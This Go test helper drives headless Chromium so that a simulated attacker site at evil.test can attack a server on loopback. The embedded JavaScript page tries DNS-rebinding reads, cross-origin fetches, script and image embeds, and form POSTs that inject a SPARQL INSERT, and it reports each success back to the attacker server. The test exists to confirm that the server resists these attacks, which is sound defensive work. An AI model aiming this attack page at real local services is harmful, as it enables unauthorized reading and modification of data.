package doortest

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"os/exec"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"orbweaver/internal/tier"
)

// attackPage is a page of http://evil.test:PORT/, where all but itself comes from the server under attack, as after a DNS name
// was made to point there. It reports which of the paths it could read, by that name and across origins, and what it could
// embed. %[1]s are the paths, %[2]s the origins of the server, as lists in JavaScript.
const attackPage = `<title>attack</title><script>
const paths = [%[1]s], origins = ["", %[2]s];
const tell = what => fetch("/tell", {method: "POST", body: what});
const tries = [["GET", ""], ["POST", "text/plain"], ["POST", "application/x-www-form-urlencoded"], ["POST", "application/sparql-update"]];
const read = async (o, p, [method, type]) => {
	try {
		const r = await fetch(o + p, method == "GET" ? {} : {method, headers: {"Content-Type": type}, body: "update=INSERT DATA {<a:a> <a:b> <a:c>}"});
		if (r.ok) await tell([method, type, o + p, (await r.text()).slice(0, 60)].join(" "));
	} catch (e) {}
};
const embed = (o, p, name) => new Promise(done => {
	const e = document.createElement(name);
	e.onload = () => tell(name + " " + o + p).then(done);
	e.onerror = done;
	e.src = o + p;
	document.head.append(e);
});
const submit = (o, p) => {
	const frame = document.createElement("iframe"), form = document.createElement("form");
	frame.name = "f" + o + p;
	form.target = frame.name; form.method = "post"; form.action = o + p;
	form.innerHTML = "<input name=update value='INSERT DATA {&lt;a:a> &lt;a:b> &lt;a:form>}'>";
	document.documentElement.append(frame, form);
	form.submit();
};
onload = async () => {
	for (const o of origins) for (const p of paths) {
		for (const t of tries) await read(o, p, t);
		if (o) { submit(o, p); await embed(o, p, "script"); await embed(o, p, "img"); }
	}
	await tell("done");
	document.title = "over";
};
</script>`

// Chromium is the path of a Chromium; the test is skipped without one.
func Chromium(t testing.TB) string {
	t.Helper()
	found := FindChromium()
	if found == "" {
		t.Skip("no Chromium is installed")
	}
	return found
}

// FindChromium returns the path of a Chromium, one without windows if there is one, which starts in a fifth of the time; "" if there is none.
func FindChromium() string {
	for _, name := range []string{"chromium-headless-shell", "chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if at, err := exec.LookPath(name); err == nil {
			return at
		}
	}
	return ""
}

// Browsed lets a page of another site attack a server on loopback in Chromium: under a name rebound to it, by requests across
// origins, by scripts and images, and by forms. What the page could read or embed of the paths, which an honest client is
// answered, is an error of the test. Forms report nothing: the caller looks at what they changed.
func Browsed(t *testing.T, addr string, paths ...string) {
	t.Helper()
	tier.Long(t, "a page attacks in a browser")
	browser := Chromium(t)
	for _, path := range paths {
		answer, err := http.Get("http://" + addr + path)
		if err != nil || answer.StatusCode != http.StatusOK {
			t.Fatalf("an honest client: %s: %v, %v", path, answer, err)
		}
		answer.Body.Close()
	}
	a := &attacker{target: addr}
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Skipf("no loopback: %v", err)
	}
	server := &http.Server{Handler: a.handler(paths)}
	go func() { _ = server.Serve(l) }()
	defer server.Close()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	defer cancel()
	_, port, _ := net.SplitHostPort(l.Addr().String())
	out, err := exec.CommandContext(ctx, browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--user-data-dir="+t.TempDir(),
		"--host-resolver-rules=MAP *.test 127.0.0.1", "--timeout=20000", "--virtual-time-budget=15000", "--dump-dom", "http://evil.test:"+port+"/attack").Output()
	if err != nil || !strings.Contains(string(out), "<script>") {
		t.Skipf("Chromium does not run here: %v", err)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	if !slices.Contains(a.told, "done") {
		t.Errorf("the attack did not end: %q", a.told)
	}
	for _, what := range a.told {
		if what != "done" {
			t.Errorf("a page of another site could do: %s", what)
		}
	}
	if a.rebound == 0 {
		t.Error("no request arrived under the name of another")
	}
}

// An attacker is the server of evil.test.
type attacker struct {
	target string

	mu      sync.Mutex
	told    []string
	rebound int // requests to the server under attack
}

func (a *attacker) handler(paths []string) http.Handler {
	quoted := func(list ...string) string { return `"` + strings.Join(list, `", "`) + `"` }
	_, port, _ := net.SplitHostPort(a.target)
	mux := http.NewServeMux()
	mux.HandleFunc("GET /attack", func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		fmt.Fprintf(w, attackPage, quoted(paths...), quoted("http://"+a.target, "http://localhost:"+port, "http://rebound.test:"+port))
	})
	mux.HandleFunc("POST /tell", func(_ http.ResponseWriter, r *http.Request) {
		b := make([]byte, 500)
		n, _ := r.Body.Read(b)
		a.mu.Lock()
		a.told = append(a.told, string(b[:n]))
		a.mu.Unlock()
	})
	mux.Handle("/", &httputil.ReverseProxy{Rewrite: func(r *httputil.ProxyRequest) {
		r.SetURL(&url.URL{Scheme: "http", Host: a.target})
		r.Out.Host = r.In.Host
		a.mu.Lock()
		a.rebound++
		a.mu.Unlock()
	}})
	return mux
}
